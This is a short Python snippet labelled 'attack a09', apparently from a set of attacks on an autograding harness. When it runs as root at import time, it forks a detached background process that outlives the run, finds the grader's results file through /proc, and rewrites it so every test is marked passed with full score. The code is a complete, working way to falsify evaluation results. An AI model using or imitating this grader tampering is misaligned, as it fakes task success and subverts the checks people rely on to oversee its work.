

# ---- attack a09: when the grader could not switch to an unprivileged user (it then runs the learner's
# code as root, with only an instructors-only note), a process started at import time outlives the
# run (root's processes are not killed after it) and rewrites results.json as soon as the grader writes it ----
def _a09():
    import json
    import os
    import time
    if os.geteuid() != 0 or os.environ.get("A09") or os.fork():
        return
    os.environ["A09"] = "1"
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        results = None
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
                except OSError:
                    continue
                if "grading.runner" in argv and "--results" in argv:
                    results = argv[argv.index("--results") + 1]
        if results is None:
            os._exit(0)
        start = time.time()
        while time.time() - start < 1800:
            if os.path.exists(results) and os.path.getmtime(results) >= start:
                doc = json.load(open(results))
                for t in doc["tests"]:
                    t["score"] = t.get("max_score", 0)
                    t["status"] = "passed"
                doc["score"] = sum(t["score"] for t in doc["tests"])
                open(results, "w").write(json.dumps(doc))
                break
            time.sleep(0.02)
    finally:
        os._exit(0)


try:
    _a09()
except Exception:
    pass
